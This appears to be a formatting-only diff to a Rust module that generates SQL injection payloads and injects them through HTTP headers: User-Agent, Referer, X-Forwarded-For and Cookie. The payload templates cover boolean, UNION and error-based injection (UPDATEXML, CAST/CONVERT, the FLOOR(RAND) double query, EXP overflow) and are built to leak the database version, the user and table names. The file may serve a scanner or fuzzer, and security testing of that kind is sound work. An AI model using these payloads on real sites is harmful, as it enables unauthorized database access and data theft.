@@ -11,7 +11,15 @@ pub struct SqliHeader;
 
 /// Where the payload travels, with the value it is appended to.
 const CARRIERS: &[(&str, &[&str])] = &[
-    ("user-agent", &["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36", "curl/8.5.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)", ""]),
+    (
+        "user-agent",
+        &[
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
+            "curl/8.5.0",
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)",
+            "",
+        ],
+    ),
     ("referer", &["https://shop.example.com/item?id=3", "https://www.example.org/", "http://intranet.local/search?q=x", ""]),
     ("x-forwarded-for", &["203.0.113.7", "10.0.0.5, 198.51.100.2", "127.0.0.1", ""]),
     ("cookie", &["lang=en; uid=", "session=9f8e7d; cart=", "id=", ""]),
@@ -39,7 +47,11 @@ pub(crate) fn boolean(rng: &mut Rng) -> String {
         3 => format!("{n}>{}", rng.range(0, 9)),
         4 => "TRUE".to_string(),
         5 => format!("{n} BETWEEN {} AND {}", rng.range(0, 5), rng.range(10000, 20000)),
-        _ => format!("ASCII(SUBSTRING((SELECT {}),1,1))>{}", rng.pick(&["user()", "database()", "@@version", "current_user"]), rng.range(40, 120)),
+        _ => format!(
+            "ASCII(SUBSTRING((SELECT {}),1,1))>{}",
+            rng.pick(&["user()", "database()", "@@version", "current_user"]),
+            rng.range(40, 120)
+        ),
     };
     format!("{op} {cond}")
 }
@@ -50,7 +62,17 @@ pub(crate) fn union(rng: &mut Rng) -> String {
     let items: Vec<String> = (0..cols)
         .map(|i| {
             if i == leak {
-                rng.pick(&["@@version", "version()", "user()", "database()", "CONCAT(0x7e,user(),0x7e)", "group_concat(table_name)", "CHAR(113,118,122)", "current_user"]).to_string()
+                rng.pick(&[
+                    "@@version",
+                    "version()",
+                    "user()",
+                    "database()",
+                    "CONCAT(0x7e,user(),0x7e)",
+                    "group_concat(table_name)",
+                    "CHAR(113,118,122)",
+                    "current_user",
+                ])
+                .to_string()
             } else {
                 rng.pick(&["NULL", "NULL", "1", "'a'", "0x41"]).to_string()
             }
@@ -95,7 +117,10 @@ pub(crate) fn error(rng: &mut Rng) -> String {
         1 => format!("{op} UPDATEXML({n},CONCAT(0x7e,{leak},0x7e),{n})", n = num(rng)),
         2 => format!("{op} {n}=CONVERT(int,{leak})", n = num(rng)),
         3 => format!("{op} {n}=CAST({leak} AS int)", n = num(rng)),
-        4 => format!("{op} (SELECT {n} FROM(SELECT COUNT(*),CONCAT({leak},FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)", n = num(rng)),
+        4 => format!(
+            "{op} (SELECT {n} FROM(SELECT COUNT(*),CONCAT({leak},FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
+            n = num(rng)
+        ),
         _ => format!("{op} EXP(~(SELECT * FROM (SELECT {leak})x))"),
     }
 }
